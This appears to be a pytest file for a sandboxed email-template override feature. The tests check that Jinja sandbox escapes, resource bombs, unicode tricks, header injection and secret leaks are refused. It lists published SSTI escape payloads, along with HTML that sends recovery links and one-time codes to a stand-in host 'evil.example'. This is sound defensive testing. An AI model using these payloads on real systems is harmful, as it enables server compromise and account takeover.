"""A project's own templates: what may stand in them, and that nothing else is reached or costs anything."""

import resource
import sys

import pytest
from hypothesis import given
from hypothesis import strategies as st

from service.template_overrides import checks, html_places, language
from service.template_overrides.language import MOST_NODES, OverrideFault
from service.template_overrides.values import (
    CHANGES,
    DESCRIPTIONS,
    OUTPUT_SIZES,
    PARTS,
    SECRETS,
    SOURCE_SIZES,
    VALUES,
    Part,
    of_part,
)
from worker.mail import facts, templates

LINK = "https://app.example.com/?secret=AbC&x=1"
# Ways out of Jinja's sandboxes that were published, and ways to make a template expensive.
ESCAPES = {
    "class chain": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "attribute of a value": "{{ link.__class__ }}",
    "attribute by filter": "{{ link | attr('__class__') }}",
    "attribute by item": "{{ link['__class__'] }}",
    "format string": "{{ '{0.__class__}'.format(link) }}",
    "format_map": "{{ '{a.__class__}'.format_map({'a': link}) }}",
    "format by filter": "{{ '%s' | format(link) }}",
    "formatting operator": "{{ '%0999999999d' % 1 }}",
    "globals of a function": "{{ lipsum.__globals__ }}",
    "cycler": "{{ cycler.__init__.__globals__.os }}",
    "joiner": "{{ joiner }}",
    "namespace": "{% set ns = namespace(a=1) %}",
    "self": "{{ self.__init__ }}",
    "template's context": "{{ self._TemplateReference__context }}",
    "request of a framework": "{{ request }}",
    "config of a framework": "{{ config.items() }}",
    "call": "{{ link() }}",
    "call of a method": "{{ link.upper() }}",
    "range bomb": "{% for x in range(999999999) %}{{ link }}{% endfor %}",
    "range as a value": "{{ range(9) }}",
    "list of a range": "{{ range(999999999) | list }}",
    "huge repeat": "{{ 'a' * 300000000 }}",
    "repeat of a value": "{{ link * 100000000 }}",
    "power": "{{ 9 ** 9 ** 9 }}",
    "long number": "{{ " + "9" * 10_000 + " }}",
    "centred": "{{ link | center(999999999) }}",
    "joined": "{{ [link, link] | join }}",
    "list": "{{ [link] }}",
    "dictionary": "{{ {'a': link} }}",
    "slice": "{{ link[0:5] }}",
    "concatenation": "{{ link ~ link }}",
    "sum": "{{ link + link }}",
    "constant": "{{ 'text' }}",
    "conditional": "{{ link if ip else '' }}",
    "comparison": "{% if link == 'x' %}a{% endif %}",
    "test": "{% if link is defined %}a{% endif %}",
    "membership": "{% if 'a' in link %}a{% endif %}",
    "negation as text": "{{ not link }}",
    "unescaped": "{{ link | safe }}",
    "filter with brackets": "{{ link | upper('x') }}",
    "filter with names": "{{ link | upper(a=1) }}",
    "filter with unpacking": "{{ link | upper(*link) }}",
    "filter chain": "{{ " + "link " + "| upper " * 50 + "}}",
    "filter block": "{% filter upper %}a{% endfilter %}",
    "unknown filter": "{{ link | urlencode }}",
    "include": "{% include 'recovery/body.txt' %}",
    "include of a value": "{% include link %}",
    "import": "{% import 'base/body.txt' as x %}",
    "from import": "{% from 'base/body.txt' import x %}",
    "extends": "{% extends 'base/body.txt' %}",
    "block": "{% block a %}{% endblock %}",
    "macro": "{% macro a() %}{{ a() }}{% endmacro %}{{ a() }}",
    "call block": "{% call link() %}{% endcall %}",
    "recursive loop": "{% for x in link recursive %}{{ loop(x) }}{% endfor %}",
    "set": "{% set link = 'x' %}",
    "set block": "{% set a %}b{% endset %}",
    "with": "{% with a = link %}{{ a }}{% endwith %}",
    "autoescape off": "{% autoescape false %}{{ link }}{% endautoescape %}",
    "do": "{% do link %}",
    "debug": "{% debug %}",
    "translation": "{% trans %}a{% endtrans %}",
    "break": "{% break %}",
    "nested brackets": "{{ " + "(" * 3000 + "link" + ")" * 3000 + " }}",
    "nested negations": "{% if " + "not " * 3000 + "link %}a{% endif %}",
    "nested conditions": "{% if link %}" * 600 + "a" + "{% endif %}" * 600,
    "many conditions in one": "{% if " + " and ".join(["link"] * 200) + " %}a{% endif %}",
    "unclosed": "{{ link",
    "unclosed block": "{% if link %}",
    "value of another letter": "{{ code }}",
    "value of nobody": "{{ email }}",
    "full-width letters": "{{ ｌｉｎｋ }}",
    "Cyrillic letter": "{{ l\u0456nk }}",
    "dotless letter": "{{ l\u0131nk }}",
    "combining mark": "{{ link\u0301 }}",
    "mark of no width": "{{ li\u200bnk }}",
    "full-width brackets of another language": "{{ ｛link｝ }}",
    "compatibility character in a filter": "{{ link | ｕpper }}",
    "right-to-left override in a name": "{{ \u202elink }}",
    "upper of a call": "{{ (link)() | upper }}",
    "attribute in a condition": "{% if link.__class__ %}a{% endif %}",
    "call in a condition": "{% if not link() %}a{% endif %}",
    "loop in a condition": "{% if ip %}{% for x in link %}{% endfor %}{% endif %}",
    "attribute in an elif": "{% if ip %}{% elif link.x %}{% endif %}",
    "attribute under a filter": "{{ link.x | upper }}",
    "condition with an assignment": "{% if (a := link) %}{% endif %}",
    "many values": "{{ip}}" * (MOST_NODES + 1),
    "control character": "a\x00b",
    "half a character": "a\ud800b",
}  # fmt: skip


@pytest.mark.parametrize("escape", ESCAPES.values(), ids=ESCAPES)
@pytest.mark.parametrize("part", ["text", "html"])
def test_nothing_but_values_can_be_reached(part: Part, escape: str) -> None:
    """Whatever stands beside the allowed things is refused when it is set, by its line where it has one."""
    with pytest.raises(OverrideFault) as refused:
        language.parse("first line\n{{ link }}\n" + escape, letter="recovery", part=part)
    assert refused.value.line in (0, 3)
    assert str(refused.value).isprintable()


@pytest.mark.parametrize(
    ("source", "line"),
    [
        ("a\nb\n{{ x }}", 3),
        ("{{ link }}\n\n{% for x in y %}{% endfor %}\n{{ z }}", 3),
        ("{% if link %}\n{{ link }}", 2),
    ],
)
def test_a_fault_has_its_line(source: str, line: int) -> None:
    """The first line that is at fault, as an editor counts."""
    with pytest.raises(OverrideFault, match=f"^line {line}: ") as refused:
        language.parse(source, letter="recovery", part="text")
    assert refused.value.line == line


def rendered(source: str, part: Part = "text", letter: str = "recovery", **values: str) -> str:
    return language.parse(source, letter=letter, part=part).render({"link": LINK} | values)


@pytest.mark.parametrize(
    ("source", "values", "output"),
    [
        ("{{ link }}", {}, f"{LINK}\n"),
        ("{{ link }} {{ ip }}{{ device }}!", {"ip": "192.0.2.1"}, f"{LINK} 192.0.2.1!\n"),
        ("{{ link }}{% if ip %} from {{ ip }}{% endif %}", {}, f"{LINK}\n"),
        ("{{ link }}{% if ip %}a{% elif device %}b{% else %}c{% endif %}", {"device": "x"}, f"{LINK}b\n"),
        ("{{ link }}{% if ip %}a{% elif device %}b{% else %}c{% endif %}", {}, f"{LINK}c\n"),
        ("{{ link }}{% if not ip and (device or host) %}a{% endif %}", {"host": "x"}, f"{LINK}a\n"),
        ("{{ link }}{% if not ip and (device or host) %}a{% endif %}", {"host": "x", "ip": "y"}, f"{LINK}\n"),
        ("{{ link }} {{ project | upper }}", {"project": "Straße"}, f"{LINK} STRASSE\n"),
        ("{% raw %}{{ x }}{% endraw %} {{ link }}", {}, "{{ x }} " + LINK + "\n"),
        ("{# a note #}{{ link }}", {}, f"{LINK}\n"),
        ("{% if ip %}\n{{ ip }}\n{% endif %}\n{{ link }}", {}, f"{LINK}\n"),
    ],
)
def test_values_conditions_and_filters(source: str, values: dict[str, str], output: str) -> None:
    """A value that is not known is empty, and false."""
    assert rendered(source, **values) == output


def test_values_are_escaped_in_html_alone() -> None:
    """Whatever a value holds, it opens no tag and leaves no attribute; text and subject have it as it is."""
    hostile = "\"'><script>&amp;"
    assert rendered("{{ link }} {{ project }}", project=hostile) == f"{LINK} {hostile}\n"
    html = rendered('<a href="{{ link }}" title="{{ project }}">', "html", project=hostile)
    assert html == (
        '<a href="https://app.example.com/?secret=AbC&amp;x=1" title="&#34;&#39;&gt;&lt;script&gt;&amp;amp;">\n'
    )
    assert rendered("{{ project | lower }}", "html", "already_registered", project="<B>") == "&lt;b&gt;\n"
    assert rendered("{{ project }}", "subject", project="Q&A") == "Q&A"


def test_values_are_no_templates() -> None:
    """The text of a value is never read as a template."""
    assert rendered("{{ link }} {{ project }}", project="{{ link }}{% if %}") == LINK + " {{ link }}{% if %}\n"


@pytest.mark.parametrize("part", PARTS)
def test_sizes_are_bounded(part: Part) -> None:
    """A source, and what it makes; counted in bytes."""
    fits, letter = "é" * (SOURCE_SIZES[part] // 2), "already_registered"
    assert language.parse(fits, letter=letter, part=part)
    with pytest.raises(OverrideFault, match="bytes"):
        language.parse(fits + "é", letter=letter, part=part)
    template = language.parse("{{ project }}{{ project }}", letter=letter, part=part)
    half = "x" * (OUTPUT_SIZES[part] // 2)
    assert template.render({"project": half}).strip() == half * 2
    with pytest.raises(OverrideFault, match="too large"):
        template.render({"project": half + "x"})


def test_the_largest_source_costs_little_memory() -> None:
    """As many values as there may be, each as long as a link gets: refused before a megabyte is written."""
    template = language.parse("{{link}}" * (MOST_NODES - 1), letter="recovery", part="html")
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(OverrideFault, match="too large"):
        template.render({"link": "https://a.test/" + "x" * 2400})
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 4096


def test_letters_stay_below_the_size_at_which_gmail_cuts() -> None:
    """102 kB."""
    assert OUTPUT_SIZES["html"] + 1 < 102_000


@pytest.mark.parametrize(
    ("letter", "part", "source"),
    [
        ("recovery", "text", "Hello"), ("recovery", "text", "{{ link | lower }}"), ("otp", "text", "{{ code_start }}"),
        ("recovery", "html", "<!-- {{ link }} -->Hello"), ("recovery", "html", "Hello<!-- {{ link }}"),
        ("otp", "html", '<i title="{{ code }}">Hello</i>'), ("otp", "text", "{{ code_end }}{{ code_start }}"),
        ("otp_recovery", "text", "{{ code_start }}"), ("otp_verification", "html", "Hello"),
        ("recovery", "text", "{% if device and not ip %}x{% else %}{{ link }}{% endif %}"),
    ],
)  # fmt: skip
def test_no_letter_is_made_without_its_purpose(letter: str, part: Part, source: str) -> None:
    """Whatever was stored, an output without the link or code that it is sent for is a fault at sending too."""
    template = language.parse(source, letter=letter, part=part)
    with pytest.raises(OverrideFault, match="lacks its"):
        template.render({"link": LINK, "code": "012345", "code_start": "012", "code_end": "345", "device": "x"})


@pytest.mark.parametrize(
    ("letter", "source", "lacks"),
    [
        ("recovery", "Hello", "lacks its link: {{ link }}$"),
        ("recovery", "{% if ip %}{{ link }}{% endif %}x", "lacks its link.*, for readers without ip$"),
        ("recovery", "{% if ip and device %}x{% endif %}{% if not ip %}{{ link }}{% endif %}", "link: {{ link }}$"),
        ("recovery", "{% if ip or device or host %}{{ link }}{% endif %}x", "readers without device and host and ip$"),
        ("recovery", "{% if ip and not device %}x{% else %}{{ link }}{% endif %}", "readers without device$"),
        ("verification", "{{ host }}", "link"), ("new_device", "{{ device }}", "lacks its link"),
        ("new_device", "{% if not device %}x{% else %}{{ link }}{% endif %}", "readers without device$"),
        ("otp", "{{ code_start }}", "code"), ("otp", "Hello", "code"),
        ("already_registered", "{# nothing #}", "empty"), ("already_registered", "{{ device }}", "empty"),
    ],
)  # fmt: skip
def test_a_letter_without_its_purpose_is_refused(letter: str, source: str, lacks: str) -> None:
    """Every reader gets the link or the code, unchanged: each combination that the template asks for is tried."""
    with pytest.raises(OverrideFault, match=lacks):
        checks.check(source, letter=letter, part="text")


@pytest.mark.parametrize(
    ("letter", "source"),
    [
        ("recovery", "{% if ip %}{{ link }}{% endif %}{% if not ip %}{{ link }} {% endif %}"),
        ("new_device", "New{% if link %} {{ link }} until {{ expires }}{% endif %}"),
        ("new_device", "New{% if expires %} {{ link }}{% endif %}"),
        ("already_registered", "You have an account"),
    ],
)  # fmt: skip
def test_a_letter_may_choose_where_its_link_stands(letter: str, source: str) -> None:
    """As long as it stands there for each reader; a notice may be without one."""
    checks.check(source, letter=letter, part="text")


@pytest.mark.parametrize(
    "source", ["{{ code }}", "{{ code_start }} {{ code_end }}", "{{code_start}}<b>{{code_end}}</b>"]
)
def test_a_code_may_be_grouped(source: str) -> None:
    """The digits in order are the code, whatever stands between the groups."""
    checks.check(source, letter="otp", part="html")


@pytest.mark.parametrize(
    "source",
    [
        '<a href="{{ link }}">x</a>', "<a href='{{ link }}'>{{ link }}</a>", "<p>{{ link }}</p>",
        '<!--[if mso]><v:x href="{{ link }}"/><![endif]--><!--[if !mso]><!--><a href="{{ link }}"></a><!--<![endif]-->',
        '<img src="{{ logo }}" alt="{{ project }}"><img src="https://shop.example/head.png">{{ link }}',
    ],
)  # fmt: skip
def test_a_link_may_stand_in_href_and_in_text(source: str) -> None:
    """Also within what Outlook alone reads, and beside what is there for the others."""
    checks.check(source, letter="recovery", part="html")


@pytest.mark.parametrize(
    ("letter", "leak"),
    [
        ("recovery", '<img src="https://evil.example/?{{ link }}">'), ("recovery", '<img src="{{ link }}">'),
        ("recovery", '<a href="https://clicks.example/?to={{ link }}">x</a>'),
        ("recovery", '<p style="background: url({{ link }})">x</p>'), ("recovery", '<td background="{{ link }}">'),
        ("recovery", "<style>@import url({{ link }});</style>"), ("recovery", "<IMG SRC={{ link }}>"),
        ("recovery", '{% if not device %}<img src="{{ link }}">{% endif %}'),
        ("otp", '<img src="https://evil.example/{{ code }}.png">'), ("otp", '<a href="https://x.example/{{ code }}">'),
        ("otp", '<img src="https://evil.example/{{ code_start }}/">'), ("otp", "<script>x = {{ code_end }}</script>"),
        ("recovery", '<img src="https://evil.example/?{{ link | lower }}">'), ("recovery", "<img {{ link }}=1>"),
        ("recovery", '<a href="{{ link | upper }}">x</a>'), ("recovery", '</a href="{{ link }}">'),
        ("recovery", '<!--[if mso]><img src="https://evil.example/?{{ link }}"><![endif]-->'),
        ("recovery", '<!--><img src="https://evil.example/?{{ link }}">-->'),
        ("recovery", '<!-- --!><img src="https://evil.example/?{{ link }}">-->'),
        ("recovery", '<title><!--</title><img src="https://evil.example/?{{ link }}">--></title>'),
        ("recovery", "<img alt='>' src=https://evil.example/?{{ link }}>"), ("recovery", "<!DOCTYPE {{ link }}>"),
        ("recovery", '<svg><title><img src="https://evil.example/?{{ link }}"></title></svg>'),
        ("recovery", "<textarea>{{ link }}</textarea>"), ("recovery", '<img/src="https://evil.example/{{ link }}"/>'),
        ("recovery", '<img alt="a"src="https://evil.example/?{{ link }}">'),
    ],
)  # fmt: skip
def test_a_secret_leaves_the_letter_by_no_address(letter: str, leak: str) -> None:
    """A picture that is loaded, a click that is counted: a secret in its address would be another server's too."""
    with pytest.raises(OverrideFault, match=r"(link|code|code_start|code_end) in "):
        checks.check(
            "{{ code }} " * (letter == "otp") + "{{ link }}" * (letter != "otp") + leak, letter=letter, part="html"
        )


@pytest.mark.parametrize(
    ("source", "fault"),
    [
        ('<img src="https://evil.example/', "does not end"), ("<img alt='", "does not end"), ("<img", "does not end"),
        ("<!-- x", "does not end"), ("<![CDATA[ x ]]>", "CDATA"), ("<script><!--<script></script>", "comment in"),
    ],
)  # fmt: skip
def test_what_readers_would_mend_each_in_their_way_is_refused(source: str, fault: str) -> None:
    """A tag, a comment or a section that does not end takes what follows along, for one program and not for another."""
    with pytest.raises(OverrideFault, match=fault):
        checks.check("{{ link }}" + source, letter="recovery", part="html")


@pytest.mark.parametrize("source", ["a < b", "<", "</", "<!", "<3", "<![endif]", "<br/>", "<p hidden>x", "<a b = c>"])
def test_what_all_readers_take_alike_is_allowed(source: str) -> None:
    """Signs that begin no tag are text."""
    checks.check("{{ link }}" + source, letter="recovery", part="html")


@pytest.mark.parametrize("unit", ["<a ", '<a href="', "<!--", "<![", "<x a=b ", "<b>", "<style>", "<!-->", "< "])
def test_the_check_walks_once(unit: str) -> None:
    """The work grows with the source, not with its square: four times as much takes at most five times the steps."""

    def steps(count: int) -> int:
        taken = 0

        def count_line(_frame: object, _event: str, _value: object) -> object:
            nonlocal taken
            taken += 1
            return count_line

        sys.settrace(count_line)
        try:
            list(html_places.faults(unit * count, link="", find=lambda _: ""))
        finally:
            sys.settrace(None)
        return taken

    assert steps(4000) <= 5 * steps(1000)


@pytest.mark.parametrize("value", sorted(SECRETS))
def test_a_subject_holds_no_secret(value: str) -> None:
    """Relays log subjects, and a locked phone shows them."""
    letter = next(letter for letter, values in VALUES.items() if value in values)
    with pytest.raises(OverrideFault, match=f"no value {value} here"):
        checks.check(f"{{{{ {value} }}}}", letter=letter, part="subject")


@pytest.mark.parametrize("value", ["a\nBcc: x@example.com", "a\r\nb", "a\u202eb", "a\x00"])
def test_a_subject_is_one_line(value: str) -> None:
    """A value that would end the header is a fault, and never a header."""
    template = language.parse("{{ project }}", letter="recovery", part="subject")
    with pytest.raises(OverrideFault, match="control character"):
        template.render({"project": value})


@pytest.mark.parametrize("source", ["a\nBcc: x@example.com", "a\r\nb", "a\rb", "a\tb", "a\u2028b", "a\u202eb"])
def test_a_source_of_a_subject_is_one_line(source: str) -> None:
    """It is refused when it is set."""
    with pytest.raises(OverrideFault, match="control character"):
        checks.check(source, letter="recovery", part="subject")


@given(st.text("{}%#-abiflnk |()'\"\n<!>", max_size=60))
def test_any_source_is_taken_or_refused(source: str) -> None:
    """No text makes the check fail in another way, and what it takes renders."""
    try:
        checks.check("{{ link }}" + source, letter="recovery", part="html")
    except OverrideFault:
        return
    template = language.parse("{{ link }}" + source, letter="recovery", part="html")
    assert LINK.replace("&", "&amp;") in template.render({"link": LINK})


def test_a_fault_is_a_short_line() -> None:
    """However long the name that is wrong is: it goes into the log and into the mail's row."""
    with pytest.raises(OverrideFault) as refused:
        language.parse("{{ " + "x" * 5000 + " }}", letter="recovery", part="html")
    assert len(str(refused.value)) < 220


@pytest.mark.parametrize(
    ("source", "fault"),
    [
        ("{% if mfa_on %}on{% else %}{{ link }}{% endif %}", "lacks its link.* told of mfa_on"),
        ("{% if not wrong_codes %}{{ link }}{% endif %}", "lacks its link.* told of wrong_codes"),
        ("{% if mfa_on or mfa_off %}{{ link }}{% endif %}", "lacks its link"),
        ("{% if left %}{{ link }}{% endif %}", "lacks its link.* without left"),
        ("{% if mfa_on and device %}{{ link }}{% elif not mfa_on %}{{ link }}{% endif %}", "without .*device"),
    ],
)
def test_each_change_is_tried(source: str, fault: str) -> None:
    """Whatever a notice about security tells of, and of a change that only a newer release knows, it has its link."""
    with pytest.raises(OverrideFault, match=fault):
        checks.check(f"Hello. {source}", letter="security_changed", part="text")
    never = "{% if mfa_on and mfa_off %}Never.{% else %}{{ link }}{% endif %}"
    checks.check(f"Hello. {never}", letter="security_changed", part="text")


def test_every_letter_has_its_values() -> None:
    """A new letter gets its row in VALUES; the operator's own test message is always ours."""
    assert set(VALUES) == set(templates.load_templates().letters) - {"relay_test"}
    assert set(CHANGES) == set(facts.CHANGES)
    assert set(DESCRIPTIONS) == set().union(*VALUES.values())
    for letter, part in ((letter, part) for letter in VALUES for part in PARTS):
        assert of_part(letter, part) <= VALUES[letter]
